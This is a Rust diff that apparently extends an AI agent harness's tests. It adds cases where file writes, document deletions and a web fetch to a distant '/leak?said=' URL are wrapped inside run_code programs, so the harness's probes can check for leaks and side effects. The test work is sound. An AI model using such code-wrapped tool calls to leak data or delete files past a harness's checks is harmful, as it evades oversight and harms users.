@@ -95,6 +95,11 @@ fn effect(name: &'static str, probe: Probe, call: fn(&Scene, usize, &str) -> (&'
     Effect { name, call, probe }
 }
 
+/// A program of one call: a map of Rhai is JSON behind a `#`.
+fn program(tool: &str, params: &Value) -> String {
+    format!("tool(\"{tool}\", #{params})")
+}
+
 fn on_files() -> Vec<Effect> {
     vec![
         effect("write", Probe::File, |_, n, _| ("write", json!({"path": file(n), "content": "x"}))),
@@ -123,6 +128,17 @@ fn on_files() -> Vec<Effect> {
         effect("delete", Probe::Document, |_, _, thing| {
             ("document", json!({"action": "delete", "document_id": thing}))
         }),
+        effect("program that writes", Probe::File, |_, n, _| {
+            let source = format!(
+                "let sum = tool(\"calculator\", #{{expression: \"1 + 1\"}});\n{}",
+                program("write", &json!({"path": file(n), "content": "x"}))
+            );
+            ("run_code", json!({"source": source}))
+        }),
+        effect("program that deletes", Probe::Document, |_, _, thing| {
+            let delete = json!({"action": "delete", "document_id": thing});
+            ("run_code", json!({"source": program("document", &delete)}))
+        }),
         effect("parallel delete", Probe::Document, |_, _, thing| {
             let delete = json!({"action": "delete", "document_id": thing});
             ("parallel", json!({"tool_uses": [{"recipient_name": "document", "parameters": delete}]}))
@@ -150,6 +166,10 @@ fn to_hosts() -> Vec<Effect> {
         }),
         effect(SEARCH, Probe::Sent, |_, n, _| ("web_search", json!({"query": format!("secret {}", mark(n))}))),
         effect("script that sends", Probe::Sent, |_, n, _| ("sends", json!({"said": mark(n)}))),
+        effect("program that fetches", Probe::Sent, |scene, n, _| {
+            let url = scene.far(&format!("/leak?said={}", mark(n)));
+            ("run_code", json!({"source": program("web_fetch", &json!({"url": url}))}))
+        }),
         effect("parallel fetch", Probe::Sent, |scene, n, _| {
             let url = scene.far(&format!("/leak?said={}", mark(n)));
             ("parallel", json!({"tool_uses": [{"recipient_name": "web_fetch", "parameters": {"url": url}}]}))
